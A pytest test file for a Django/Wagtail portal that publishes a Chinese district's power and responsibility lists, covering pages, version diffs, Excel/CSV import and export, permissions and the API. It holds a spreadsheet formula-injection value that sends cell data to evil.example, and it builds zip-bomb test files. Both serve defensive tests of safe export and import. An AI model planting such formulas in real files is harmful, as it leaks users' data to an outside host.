"""Power and responsibility lists on PostgreSQL: demo, pages, versions,
import/export, API and department-scoped editing."""

import csv
import datetime as dt
import io
import os
import re
import zipfile

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from portal.models import Department
from powerlists import codes, importer, xlsx
from powerlists.documents import SOURCES
from powerlists.models import (
    Adjustment, DutyBoundary, PowerItem, PowerListVersion, ResponsibilityList,
)
from powerlists.adjustments import Notice

from . import xlsx_bombs

NOTICE = Notice(basis="《中华人民共和国行政许可法》第八条", effective_date=dt.date(2024, 9, 1),
                title="关于调整区市场监管局权力清单的通知", number="南川府办发〔2024〕50号")


def export_department(client, slug):
    response = client.get(f"/quanze/export.xlsx?department={slug}&status=active")
    assert response.status_code == 200
    return response.content


def edit(data, change):
    workbook = load_workbook(io.BytesIO(data))
    change(workbook)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def drop(workbook, code):
    """Remove an item and its rows in the child sheets."""
    for sheet in workbook.worksheets:
        for r in range(sheet.max_row, 1, -1):
            if sheet.cell(r, 1).value == code:
                sheet.delete_rows(r)


def row_of(workbook, code):
    sheet = workbook["权力事项"]
    return next(r for r in range(2, sheet.max_row + 1) if sheet.cell(r, 1).value == code)


# -- demo ----------------------------------------------------------------------

def test_demo_covers_the_issue_and_is_idempotent(demo):
    items = PowerItem.objects.public()
    assert items.count() >= 150
    assert items.values("department").distinct().count() >= 12
    assert set(items.values_list("power_type", flat=True)) == set(codes.POWER_TYPE_LABELS)
    assert any(i.is_sub_item for i in items)
    assert ResponsibilityList.objects.count() >= 10
    assert DutyBoundary.objects.count() >= 8
    assert list(PowerListVersion.objects.order_by("approved_on").values_list("name", flat=True)) == ["2023年版", "2024年版"]
    assert set(Adjustment.objects.values_list("kind", flat=True)) == {"add", "cancel", "delegate", "change", "merge"}
    for item in items[:40]:
        item.full_clean()  # the demo obeys the content rules
    before = (PowerItem.objects.count(), Adjustment.objects.count())
    call_command("load_demo", stdout=open(os.devnull, "w"))
    assert (PowerItem.objects.count(), Adjustment.objects.count()) == before


# -- model rules ---------------------------------------------------------------

def test_model_rules_reject_bad_items(demo):
    dept = Department.objects.get(slug="scjgj")
    item = PowerItem(code="XK09999001", name="子项", power_type="licensing", department=dept,
                     statutory_days=10, promised_days=15, inspection_content="x")
    with pytest.raises(Exception) as caught:
        item.full_clean()
    errors = caught.value.message_dict
    assert errors["code"] == ["子项的主项 XK09999000 不存在，请先建立主项。"]
    assert errors["promised_days"] == ["承诺时限（15个工作日）不能长于法定时限（10个工作日）。"]
    assert errors["inspection_content"] == ["检查内容和检查方式只适用于行政检查事项。"]
    item = PowerItem(code="CF09999000", name="x", power_type="licensing", department=dept)
    with pytest.raises(Exception, match="应以“XK”开头"):
        item.full_clean()


# -- public pages --------------------------------------------------------------

def test_district_list_counts_and_filters(demo, client):
    html = client.get("/quanze/").content.decode()
    total = PowerItem.objects.current().count()
    assert f"现行权力事项共 {total} 项" in html
    scjgj = PowerItem.objects.current().filter(department__slug="scjgj").count()
    assert f'<a href="/quanze/bumen/scjgj/">南川区市场监督管理局</a> <span class="pl-count">{scjgj} 项</span>' in html
    n_cj = PowerItem.objects.current().filter(power_type="adjudication").count()
    assert f'<a href="?power_type=adjudication">行政裁决</a> <span class="pl-count">{n_cj} 项</span>' in html
    filtered = client.get("/quanze/?power_type=adjudication").content.decode()
    assert "土地权属争议调处" in filtered and "食品生产许可" not in filtered
    assert "权责清单" in client.get("/").content.decode()  # nav item


def test_bad_list_parameters_are_a_chinese_400(demo, client):
    response = client.get("/quanze/?power_type=xuke")
    assert response.status_code == 400
    assert "权力类型“xuke”不存在" in response.content.decode()
    assert client.get("/quanze/export.csv?department=nope").status_code == 400


def test_item_page_is_laid_out_like_the_printed_table(demo, client):
    html = client.get("/quanze/shixiang/XK00001000/").content.decode()
    for text in ("食品生产许可", "XK00001000", "《中华人民共和国食品安全法》", "第三十五条第一款", "受理", "事后监管",
                 "追责情形", "《中华人民共和国行政许可法》第七十二条", "20 个工作日", "10 个工作日", "不收费",
                 "023-71438315", "食品生产许可证变更"):
        assert text in html
    sub = client.get("/quanze/shixiang/XK00001002/").content.decode()
    assert "所属主项" in sub and "/quanze/shixiang/XK00001000/" in sub


def test_unknown_item_is_a_404_page(demo, client):
    response = client.get("/quanze/shixiang/XK09999000/")
    assert response.status_code == 404 and "页面不存在" in response.content.decode()
    assert client.get("/quanze/shixiang/not-a-code/").status_code == 404
    assert client.get("/quanze/bumen/no-such-dept/").status_code == 404


def test_cancelled_item_stays_reachable_with_its_record(demo, client):
    cancelled = PowerItem.objects.get(name="价格认定")
    assert cancelled.is_cancelled
    html = client.get(cancelled.get_absolute_url()).content.decode()
    assert "本事项已取消，不再实施" in html and "南川府办发〔2023〕72号" in html
    merged = PowerItem.objects.get(name="对食品经营者的监督检查")
    html = client.get(merged.get_absolute_url()).content.decode()
    target = PowerItem.objects.get(name="对食品生产经营者的监督检查")
    assert "本事项已合并" in html and f"现并入 <a href=\"{target.get_absolute_url()}\">" in html
    assert "价格认定" not in client.get("/quanze/").content.decode()
    assert "价格认定" in client.get("/quanze/?status=cancelled").content.decode()


def test_department_page_combines_powers_and_responsibilities(demo, client):
    html = client.get("/quanze/bumen/scjgj/").content.decode()
    for text in ("权力清单", "行政许可（", "一、主要职责", "负责食品安全监督管理", "二、职责边界", "三、事中事后监管制度",
                 "四、公共服务事项", "五、责任追究机制", "学校食品安全管理", "二手车交易市场监管"):
        assert text in html
    # The boundary led by the agriculture committee shows on both departments.
    assert "食用农产品质量安全监管" in html
    assert "食用农产品质量安全监管" in client.get("/quanze/bumen/nyncw/").content.decode()
    assert "学校食品安全管理" in client.get("/quanze/bumen/jw/").content.decode()


def test_print_page_has_an_inline_qr_code_per_item(demo, client):
    response = client.get("/quanze/bumen/cgj/print/")
    html = response.content.decode()
    n = PowerItem.objects.current().filter(department__slug="cgj").count()
    assert html.count("<svg") == n
    assert "特殊车辆在城市道路上行驶审批" in html and "<script>" not in html  # no inline script; portal.js is a static file


# -- versions and diff -----------------------------------------------------------

def test_versions_snapshot_the_list_and_diff_shows_every_kind_of_change(demo, client):
    v2023, v2024 = PowerListVersion.objects.order_by("approved_on")
    assert "价格认定" in {e.name for e in v2023.entries.all()}
    assert "价格认定" not in {e.name for e in v2024.entries.all()}
    html = client.get(f"/quanze/bianhua/?from={v2023.pk}&to={v2024.pk}").content.decode()
    assert "新增 2 项，取消 2 项，变更 4 项" in html
    for text in ("燃气经营许可", "价格认定", "对食品经营者的监督检查", "实施层级", "区县级", "乡镇（街道）", "承诺时限"):
        assert text in html
    one = client.get(f"/quanze/bianhua/?from={v2023.pk}&to={v2024.pk}&department=zjw").content.decode()
    assert "新增 1 项，取消 0 项，变更 1 项" in one and "价格认定" not in one
    since = client.get(f"/quanze/bianhua/?from={v2024.pk}&to=current").content.decode()
    assert "对机动车排放检验机构的监督检查" in since and "新增 1 项" in since


def test_bad_diff_parameters_are_a_400(demo, client):
    response = client.get("/quanze/bianhua/?from=9999&to=current")
    assert response.status_code == 400 and "起始版本“9999”不存在" in response.content.decode()
    assert client.get("/quanze/bianhua/?from=current").status_code == 400
    assert client.get("/quanze/bianhua/?from=current&to=current&department=zz").status_code == 400


def test_freezing_a_new_version_attaches_pending_adjustments(demo):
    pending = Adjustment.objects.filter(version__isnull=True)
    assert pending.count() == 1
    version = PowerListVersion.objects.create(name="2025年版", approval_document="南川府发〔2025〕3号",
                                              approved_on=dt.date(2025, 3, 1))
    version.freeze()
    assert version.entries.count() == PowerItem.objects.current().count()
    assert Adjustment.objects.filter(version=version).count() == 1


# -- Excel import / export ---------------------------------------------------------

def test_export_import_round_trips_and_unchanged_file_changes_nothing(demo, client):
    dept = Department.objects.get(slug="scjgj")
    data = export_department(client, "scjgj")
    before = {i.code: i.to_data() for i in PowerItem.objects.current().filter(department=dept)}
    parsed = xlsx.read(data, department=dept.name, department_names={dept.name})
    assert parsed.errors == []
    assert {i["code"]: i for i in parsed.items} == before
    adjustments = Adjustment.objects.count()
    stamps = dict(PowerItem.objects.filter(department=dept).values_list("code", "updated_at"))
    report = importer.import_department(data, dept, notice=None)
    assert report.ok and not report.has_changes and report.unchanged == len(before)
    assert Adjustment.objects.count() == adjustments
    assert dict(PowerItem.objects.filter(department=dept).values_list("code", "updated_at")) == stamps


def test_changed_file_produces_adjustment_records(demo, client):
    dept = Department.objects.get(slug="scjgj")

    def change(wb):
        sheet = wb["权力事项"]
        row = row_of(wb, "XK00002000")
        sheet.cell(row, 7).value = 3  # promised days 5 -> 3
        drop(wb, "JL00001000")  # dropped from the file: cancelled
        sheet.append(["XK00090000", "大型群众性活动食品安全保障审查", "行政许可", dept.name, "区县级", 10, 5,
                      "", "", "023-71438315", "", "", "", ""])
        wb["设定依据"].append(["XK00090000", 1, "《中华人民共和国食品安全法》", "第一百零九条", "依据风险分级实施监督管理。"])

    data = edit(export_department(client, "scjgj"), change)
    report = importer.import_department(data, dept, notice=NOTICE)
    assert report.errors == []
    assert (report.added, report.changed, report.cancelled) == (["XK00090000"], ["XK00002000"], ["JL00001000"])
    assert PowerItem.objects.get(code="XK00002000").promised_days == 3
    assert PowerItem.objects.get(code="JL00001000").is_cancelled
    added = PowerItem.objects.get(code="XK00090000")
    assert added.legal_bases.get().article == "第一百零九条"
    records = {a.item.code: a for a in Adjustment.objects.filter(notice_number="南川府办发〔2024〕50号")}
    assert records["XK00090000"].kind == "add"
    assert records["JL00001000"].kind == "cancel"
    assert records["XK00002000"].kind == "change"
    assert records["XK00002000"].changes == [{"field": "promised_days", "label": "承诺时限", "old": 5, "new": 3}]
    # The same file again changes nothing more.
    count = Adjustment.objects.count()
    assert not importer.import_department(data, dept, notice=NOTICE).has_changes
    assert Adjustment.objects.count() == count


def test_a_file_with_any_error_writes_nothing(demo, client):
    dept = Department.objects.get(slug="scjgj")

    def change(wb):
        sheet = wb["权力事项"]
        sheet.cell(row_of(wb, "XK00002000"), 7).value = 3  # a valid change...
        sheet.cell(row_of(wb, "XK00003000"), 7).value = 99  # ...and an invalid one
        sheet.append(["XK00091001", "没有主项的子项", "行政许可", dept.name, "区县级", "", "", "", "", "", "", "", "", ""])

    before = (PowerItem.objects.count(), Adjustment.objects.count(), PowerItem.objects.get(code="XK00002000").promised_days)
    report = importer.import_department(edit(export_department(client, "scjgj"), change), dept, notice=NOTICE)
    messages = [str(e) for e in report.errors]
    assert any("「承诺时限（工作日）」列：承诺时限（99个工作日）不能长于法定时限" in m for m in messages)
    assert any("子项 XK00091001 的主项 XK00091000 不在本清单中" in m for m in messages)
    assert not report.applied
    after = (PowerItem.objects.count(), Adjustment.objects.count(), PowerItem.objects.get(code="XK00002000").promised_days)
    assert after == before


def test_import_refuses_codes_of_other_departments_and_needs_a_notice(demo, client):
    dept = Department.objects.get(slug="scjgj")

    def steal(wb):
        wb["权力事项"].append(["XK00004000", "借用他部门编码", "行政许可", dept.name, "区县级", "", "", "", "", "", "", "", "", ""])

    report = importer.import_department(edit(export_department(client, "scjgj"), steal), dept, notice=NOTICE)
    assert any("已被南川区人力资源和社会保障局使用" in str(e) for e in report.errors)

    def change(wb):
        wb["权力事项"].cell(row_of(wb, "XK00002000"), 7).value = 4

    report = importer.import_department(edit(export_department(client, "scjgj"), change), dept, notice=None)
    assert [str(e) for e in report.errors] == ["本次导入将产生调整，请填写调整依据、生效日期和公告名称。"]


def test_import_command(demo, client, tmp_path):
    path = tmp_path / "cgj.xlsx"
    path.write_bytes(export_department(client, "cgj"))
    out = io.StringIO()
    call_command("import_powerlist", str(path), "--department", "cgj", stdout=out)
    assert "无变化" in out.getvalue()
    bad = tmp_path / "bad.xlsx"
    bad.write_text("这不是表格")
    with pytest.raises(CommandError, match="不是有效的 Excel"):
        call_command("import_powerlist", str(bad), "--department", "cgj")
    with pytest.raises(CommandError, match="部门“nope”不存在"):
        call_command("import_powerlist", str(path), "--department", "nope")
    with pytest.raises(CommandError, match="公告文号“南川府办发2024”格式不正确"):
        call_command("import_powerlist", str(path), "--department", "cgj", "--notice-number", "南川府办发2024")


def test_csv_export_follows_the_filter(demo, client):
    response = client.get("/quanze/export.csv?power_type=adjudication")
    text = response.content.decode("utf-8-sig")
    assert response["Content-Type"].startswith("text/csv")
    assert text.count("\n") > 3 and "土地权属争议调处" in text and "食品生产许可" not in text


LIVE_FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"点击")'


def test_exports_hold_no_live_formula_and_the_text_comes_back_on_import(demo, client):
    dept = Department.objects.get(slug="scjgj")
    remarks = {"XK00001000": LIVE_FORMULA, "XK00002000": "'引号开头的备注", "XK00003000": "-5 个工作日内补正"}
    for code, text in remarks.items():
        assert PowerItem.objects.filter(code=code, department=dept).update(remarks=text) == 1
    data = export_department(client, "scjgj")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any(re.search(rb"<f[ >]", xml) for xml in sheets)
    cells = {row[0].value: row[13] for row in load_workbook(io.BytesIO(data))["权力事项"].iter_rows(min_row=2)}
    assert {code: (cells[code].value, cells[code].data_type) for code in remarks} == {
        code: (text, "s") for code, text in remarks.items()}
    report = importer.import_department(data, dept, notice=None)
    assert report.errors == [] and not report.has_changes  # read back exactly as stored

    text = client.get("/quanze/export.csv?department=scjgj&status=active").content.decode("utf-8-sig")
    rows = {row[0]: row for row in csv.reader(io.StringIO(text, newline=""))}
    assert {code: rows[code][13] for code in remarks} == {
        "XK00001000": "'" + LIVE_FORMULA, "XK00002000": "''引号开头的备注", "XK00003000": "'-5 个工作日内补正"}


def _zip_of_text():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "不是表格")
    return out.getvalue()


REFUSED_FILES = [
    (xlsx_bombs.row_bomb, "「权力事项」：工作表的数据范围为 A1:N1048576，共 1048576 行，超过上限 20000 行。"),
    (lambda: xlsx_bombs.zip_bomb(60 * 1024 * 1024), "文件解压后为 60.0 MB，超过上限 50.0 MB，疑似压缩炸弹，已拒绝读取。"),
    (_zip_of_text, "文件是 zip 压缩包，但不是 Excel 工作簿（缺少 [Content_Types].xml、xl/workbook.xml）。"),
]


def test_import_command_refuses_bombs_and_non_workbooks_in_chinese(demo, tmp_path):
    for n, (build, message) in enumerate(REFUSED_FILES):
        path = tmp_path / f"{n}.xlsx"
        path.write_bytes(build())
        with pytest.raises(CommandError, match=re.escape(message)):
            call_command("import_powerlist", str(path), "--department", "scjgj", "--dry-run")
    big = tmp_path / "big.xlsx"
    big.write_bytes(b"PK" + b"\0" * 6 * 1024 * 1024)
    with pytest.raises(CommandError, match="文件大小为 6.0 MB，超过上限 5.0 MB。"):
        call_command("import_powerlist", str(big), "--department", "scjgj", "--dry-run")


# -- admin: import view and permissions -------------------------------------------

def test_admin_import_view_office_applies_editor_only_checks(editors, client):
    editor, office = editors
    scjgj = Department.objects.get(slug="scjgj")
    data = edit(export_department(client, "scjgj"),
                lambda wb: setattr(wb["权力事项"].cell(row_of(wb, "XK00002000"), 7), "value", 2))
    form = {"department": scjgj.pk, "basis": "深化减时间改革", "effective_date": "2024-10-01",
            "notice_title": "关于压减办理时限的通知", "notice_number": "", "notice_url": ""}

    client.force_login(editor)
    assert client.get("/admin/powerlists/template.xlsx").status_code == 200
    response = client.post("/admin/powerlists/import/", {**form, "file": SimpleUploadedFile("a.xlsx", data)})
    assert "检查通过（未写入）" in response.content.decode()
    assert PowerItem.objects.get(code="XK00002000").promised_days == 5
    other = Department.objects.get(slug="cgj")
    response = client.post("/admin/powerlists/import/", {**form, "department": other.pk,
                                                        "file": SimpleUploadedFile("a.xlsx", data)})
    assert response.status_code == 400 and "无权导入该部门的清单" in response.content.decode()

    client.force_login(office)
    response = client.post("/admin/powerlists/import/", {**form, "file": SimpleUploadedFile("a.xlsx", b"not excel")})
    assert response.status_code == 400 and "不是有效的 Excel（.xlsx）文件" in response.content.decode()
    response = client.post("/admin/powerlists/import/", {**form, "file": SimpleUploadedFile("a.xlsx", data)}, follow=True)
    assert "导入完成" in response.content.decode()
    assert PowerItem.objects.get(code="XK00002000").promised_days == 2


def test_admin_import_shows_why_a_bomb_or_non_workbook_is_refused(editors, client):
    _editor, office = editors
    client.force_login(office)
    form = {"department": Department.objects.get(slug="scjgj").pk, "basis": "清单调整", "effective_date": "2024-10-01",
            "notice_title": "关于调整权力清单的通知", "notice_number": "", "notice_url": ""}
    before = (PowerItem.objects.count(), Adjustment.objects.count())
    for build, message in REFUSED_FILES:
        response = client.post("/admin/powerlists/import/", {**form, "file": SimpleUploadedFile("a.xlsx", build())})
        page = response.content.decode()
        assert response.status_code == 400 and "文件无法导入" in page and message in page
    response = client.post("/admin/powerlists/import/",
                           {**form, "file": SimpleUploadedFile("a.xlsx", b"PK" + b"\0" * 6 * 1024 * 1024)})
    assert response.status_code == 400 and "文件大小为 6.0 MB，超过上限 5.0 MB。" in response.content.decode()
    assert (PowerItem.objects.count(), Adjustment.objects.count()) == before


def _changed_list(client, dept):
    """scjgj's list with one item of each kind: added, changed, delegated (level down) and cancelled."""
    def change(wb):
        sheet = wb["权力事项"]
        sheet.cell(row_of(wb, "XK00002000"), 7).value = 3  # promised days 5 -> 3
        sheet.cell(row_of(wb, "XK00003000"), 5).value = "乡镇（街道）"  # 下放
        drop(wb, "JL00001000")
        sheet.append(["XK00090000", "大型群众性活动食品安全保障审查", "行政许可", dept.name, "区县级", 10, 5,
                      "", "", "023-71438315", "", "", "", ""])
        wb["设定依据"].append(["XK00090000", 1, "《中华人民共和国食品安全法》", "第一百零九条", "依据风险分级实施监督管理。"])

    return edit(export_department(client, "scjgj"), change)


def _entries(html):
    """(kind, code, name) of each row of the import's table of adjustments."""
    rows = re.findall(r'<tr data-kind="(\w+)">\s*<td>(.+?)</td>\s*<td>(\w+)</td>\s*<td>(?:<a [^>]*>)?(.+?)(?:</a>)?</td>', html)
    return {(kind, label, code, name) for kind, label, code, name in rows}


KINDS_OF_CHANGE = {("add", "新增", "XK00090000", "大型群众性活动食品安全保障审查"), ("change", "变更", "XK00002000", "食品经营许可"),
                   ("delegate", "下放", "XK00003000", "药品零售企业许可"), ("cancel", "取消", "JL00001000", "食品安全举报奖励")}


def test_admin_dry_run_shows_the_whole_difference_without_asking_for_a_notice(editors, client):
    editor, office = editors
    dept = Department.objects.get(slug="scjgj")
    names = dict(PowerItem.objects.filter(code__in=[c for _k, _l, c, _n in KINDS_OF_CHANGE]).values_list("code", "name"))
    expected = {(k, label, code, names.get(code, name)) for k, label, code, name in KINDS_OF_CHANGE}
    data = _changed_list(client, dept)
    before = (Adjustment.objects.count(), PowerItem.objects.get(code="XK00002000").promised_days)
    for user in (editor, office):
        client.force_login(user)
        response = client.post("/admin/powerlists/import/", {"department": dept.pk, "action": "check",
                                                            "file": SimpleUploadedFile("a.xlsx", data)})
        html = response.content.decode()
        assert response.status_code == 200 and "检查通过（未写入）：南川区市场监督管理局" in html
        assert "新增 1 项，变更 1 项，下放 1 项，取消 1 项" in html
        assert _entries(html) == expected
        assert "<strong>承诺时限</strong>：5 → 3" in html and "<strong>实施层级</strong>：区县级 → 乡镇（街道）" in html
        assert "请填写" not in html
    assert (Adjustment.objects.count(), PowerItem.objects.get(code="XK00002000").promised_days) == before


def test_admin_import_asks_for_the_notice_then_redirects_to_a_page_naming_every_item(editors, client):
    _editor, office = editors
    dept = Department.objects.get(slug="scjgj")
    names = dict(PowerItem.objects.filter(code__in=[c for _k, _l, c, _n in KINDS_OF_CHANGE]).values_list("code", "name"))
    data = _changed_list(client, dept)
    client.force_login(office)
    records = Adjustment.objects.count()
    response = client.post("/admin/powerlists/import/", {"department": dept.pk, "action": "import", "basis": "职能调整",
                                                        "file": SimpleUploadedFile("a.xlsx", data)})
    html = response.content.decode()
    assert response.status_code == 400 and Adjustment.objects.count() == records
    assert "导入将产生调整，请填写生效日期。" in html and "导入将产生调整，请填写公告名称。" in html
    assert "请填写调整依据" not in html and len(_entries(html)) == 4  # the difference stays in view

    form = {"department": dept.pk, "action": "import", "basis": "职能调整", "effective_date": "2024-10-01",
            "notice_title": "关于调整区市场监管局权力清单的通知"}
    response = client.post("/admin/powerlists/import/", {**form, "notice_number": "南川府办发2024年",
                                                        "file": SimpleUploadedFile("a.xlsx", data)})
    assert response.status_code == 400 and "公告文号“南川府办发2024年”格式不正确" in response.content.decode()
    response = client.post("/admin/powerlists/import/", {**form, "notice_number": "南川府办发[2024] 50号",
                                                        "file": SimpleUploadedFile("a.xlsx", data)})
    assert response.status_code == 302 and response["Location"] == "/admin/powerlists/import/"
    assert set(Adjustment.objects.filter(notice_number="南川府办发〔2024〕50号").values_list("item__code", "kind")) == {
        (code, kind) for kind, _l, code, _n in KINDS_OF_CHANGE}
    html = client.get(response["Location"]).content.decode()
    assert "导入完成：南川区市场监督管理局" in html and "（南川府办发〔2024〕50号）生成调整记录" in html
    assert _entries(html) == {(k, label, code, names.get(code, name)) for k, label, code, name in KINDS_OF_CHANGE}
    assert 'href="/quanze/shixiang/XK00090000/"' in html
    assert 'value="职能调整"' not in html and "职能调整</textarea>" not in html  # the form is empty again
    assert "导入完成" not in client.get("/admin/powerlists/import/").content.decode()  # shown once


def test_import_page_has_a_heading_and_offers_only_the_districts_departments(editors, client):
    _editor, office = editors
    Department.objects.get_or_create(name="国务院", defaults={"slug": "guowuyuan", "org_code": "000014349"})
    client.force_login(office)
    html = client.get("/admin/powerlists/import/").content.decode()
    assert re.search(r"<h1[^>]*>\s*(<svg.*?</svg>\s*)?权责清单导入\s*</h1>", html, re.S)
    select = re.search(r'<select name="department".*?</select>', html, re.S).group(0)
    offered = set(re.findall(r'<option value="\d+"[^>]*>([^<]+)</option>', select))
    districts = {d.name for d in Department.objects.all() if d.effective_level == "district"}
    assert offered == districts and "国务院" not in offered and len(offered) >= 12


def test_department_editor_edits_only_own_items_and_cannot_publish(editors, client):
    editor, office = editors
    own = PowerItem.objects.get(code="XK00001000")
    other = PowerItem.objects.filter(department__slug="cgj").first()
    client.force_login(editor)
    listing = client.get("/admin/snippets/powerlists/poweritem/").content.decode()
    assert own.name in listing and other.name not in listing
    # The form accepts only the editor's own department.
    url, data = _edit_form(client, own)
    data.update({"department": str(other.department_id), "adjustment_basis": "职能调整",
                 "adjustment_effective_date": "2024-10-08", "adjustment_notice_title": "关于调整实施主体的通知"})
    response = client.post(url, data)
    assert response.status_code == 200 and "选择一个有效的选项" in str(response.context["form"].errors["department"])
    assert PowerItem.objects.get(pk=own.pk).latest_revision == own.latest_revision
    assert client.get(f"/admin/snippets/powerlists/poweritem/edit/{other.pk}/").status_code == 404
    assert not editor.has_perm("powerlists.publish_poweritem")
    assert office.has_perm("powerlists.publish_poweritem")
    assert own.get_workflow().name == "权责清单审核"
    # The editor submits; the live row is unchanged until the office approves.
    own.name = "食品生产许可（草稿）"
    revision = own.save_revision(user=editor)
    own.get_workflow().start(own, editor)
    assert PowerItem.objects.get(pk=own.pk).name == "食品生产许可"
    assert own.current_workflow_task.name == "门户办审核（权责清单）"
    assert own.current_workflow_task.user_can_access_editor(own, office)
    revision.publish(user=office)
    assert PowerItem.objects.get(pk=own.pk).name == "食品生产许可（草稿）"


def _edit_form(client, item):
    from wagtail.test.utils.form_data import querydict_from_html

    url = f"/admin/snippets/powerlists/poweritem/edit/{item.pk}/"
    response = client.get(url)
    assert response.status_code == 200
    return url, querydict_from_html(response.content.decode(), form_id="w-editor-form")


def test_admin_change_needs_a_notice_and_publishing_records_it(editors, client):
    _editor, office = editors
    item = PowerItem.objects.get(code="XK00002000")
    before, records = item.to_data(), item.adjustments.count()
    client.force_login(office)
    url, data = _edit_form(client, item)
    assert data["adjustment_basis"].strip() == "" and data["adjustment_notice_title"] == ""
    data["promised_days"] = "3"
    data["action-publish"] = "1"
    response = client.post(url, data)
    html = response.content.decode()
    assert response.status_code == 200 and "新增事项或修改已公开的事项须填写此项" in html
    assert PowerItem.objects.get(pk=item.pk).to_data() == before  # nothing written, the live item unchanged

    data.update({"adjustment_basis": "深化减时间改革", "adjustment_effective_date": "2024-10-08",
                 "adjustment_notice_title": "关于压减办理时限的通知", "adjustment_notice_number": "南川市场监管发[2024] 9号"})
    response = client.post(url, data)
    assert response.status_code == 302
    item.refresh_from_db()
    assert item.promised_days == 3 and item.adjustment_basis == ""  # the notice went on the record
    assert item.adjustments.count() == records + 1
    record = item.adjustments.latest("id")
    assert (record.kind, record.basis, record.notice_number, record.effective_date) == (
        "change", "深化减时间改革", "南川市场监管发〔2024〕9号", dt.date(2024, 10, 8))
    assert record.changes == [{"field": "promised_days", "label": "承诺时限", "old": 5, "new": 3}]
    page = client.get(item.get_absolute_url()).content.decode()
    assert "关于压减办理时限的通知" in page and "变更承诺时限" in page

    # The next edit starts with an empty notice; a save that changes nothing needs none.
    url, data = _edit_form(client, item)
    assert data["adjustment_basis"].strip() == "" and data["adjustment_effective_date"] == ""
    response = client.post(url, data)
    assert response.status_code == 302 and item.adjustments.count() == records + 1


def test_admin_moving_an_item_down_a_level_is_recorded_as_delegation(editors, client):
    _editor, office = editors
    item = PowerItem.objects.filter(level="district", department__slug="scjgj").first()
    client.force_login(office)
    url, data = _edit_form(client, item)
    data.update({"level": "town", "action-publish": "1", "adjustment_basis": "《重庆市赋予乡镇（街道）县级经济社会管理权限指导目录》",
                 "adjustment_effective_date": "2024-11-01", "adjustment_notice_title": "关于下放部分行政权力事项的通知"})
    assert client.post(url, data).status_code == 302
    record = item.adjustments.latest("id")
    assert record.kind == "delegate" and record.description == "下放至乡镇（街道）实施。"


# -- API -------------------------------------------------------------------------

def test_api_lists_filters_and_details(demo, client):
    data = client.get("/api/powerlists/items/?department=scjgj&power_type=licensing&page_size=5").json()
    assert data["count"] == PowerItem.objects.current().filter(department__slug="scjgj", power_type="licensing").count()
    assert len(data["results"]) == 5 and all(r["power_type"] == "licensing" for r in data["results"])
    detail = client.get("/api/powerlists/items/XK00002000/").json()
    assert detail["promised_days"] == 5 and detail["adjustments"][0]["kind"] == "change"
    assert detail["legal_bases"][0]["law"] == "《中华人民共和国食品安全法》"
    versions = client.get("/api/powerlists/versions/").json()["results"]
    assert [v["name"] for v in versions] == ["2024年版", "2023年版"]
    departments = {d["slug"]: d for d in client.get("/api/powerlists/departments/").json()["results"]}
    assert departments["scjgj"]["item_count"] == PowerItem.objects.current().filter(department__slug="scjgj").count()


@pytest.mark.parametrize("url, status, parameter", [
    ("/api/powerlists/items/?power_type=xuke", 400, "power_type"),
    ("/api/powerlists/items/?department=nope", 400, "department"),
    ("/api/powerlists/items/?page_size=1000", 400, "page_size"),
    ("/api/powerlists/items/?page=99", 400, "page"),
    ("/api/powerlists/items/?colour=red", 400, "colour"),
    ("/api/powerlists/items/XK123/", 400, "code"),
    ("/api/powerlists/items/XK09999000/", 404, None),
    ("/api/powerlists/nothing/", 404, None),
])
def test_api_errors_are_structured_json(demo, client, url, status, parameter):
    response = client.get(url)
    assert response.status_code == status and response["Content-Type"] == "application/json"
    error = response.json()["error"]
    assert error["message"] and error.get("parameter") == parameter


def test_openapi_fragment_describes_every_route(db):
    from powerlists.openapi import openapi

    fragment = openapi()
    assert set(fragment["paths"]) == {"/api/powerlists/departments/", "/api/powerlists/items/",
                                      "/api/powerlists/items/{code}/", "/api/powerlists/versions/"}
    refs = str(fragment["paths"]) + str(fragment["schemas"])
    for name in fragment["schemas"]:
        assert f"#/components/schemas/{name}" in refs


# -- search documents --------------------------------------------------------------

def test_search_documents_cover_current_items_and_responsibility_lists(demo):
    items, lists = SOURCES
    docs = [d for obj in items.queryset() for d in items.to_documents(obj)]
    assert len(docs) == PowerItem.objects.current().count()
    food = next(d for d in docs if d.code == "XK00001000")
    assert food.type == "power_item" and food.departments == ["scjgj"] and food.power_type == "licensing"
    assert "《中华人民共和国食品安全法》" in food.body and food.url == "/quanze/shixiang/XK00001000/"
    assert items.to_documents(PowerItem.objects.get(name="价格认定")) == []
    rdocs = [d for obj in lists.queryset() for d in lists.to_documents(obj)]
    assert len(rdocs) == ResponsibilityList.objects.count()
    market = next(d for d in rdocs if d.departments == ["scjgj"])
    assert market.title == "南川区市场监督管理局责任清单" and "职责边界：食用农产品质量安全监管" in market.body


def test_admin_forms_render_for_the_office(editors, client):
    _editor, office = editors
    client.force_login(office)
    for model in ("poweritem", "responsibilitylist", "dutyboundary", "powerlistversion", "adjustment"):
        assert client.get(f"/admin/snippets/powerlists/{model}/").status_code == 200
        assert client.get(f"/admin/snippets/powerlists/{model}/add/").status_code == 200
    rlist = ResponsibilityList.objects.get(department__slug="scjgj")
    assert client.get(f"/admin/snippets/powerlists/responsibilitylist/edit/{rlist.pk}/").status_code == 200
    html = client.get("/admin/powerlists/import/").content.decode()
    assert "下载导入模板" in html and 'type="file"' in html
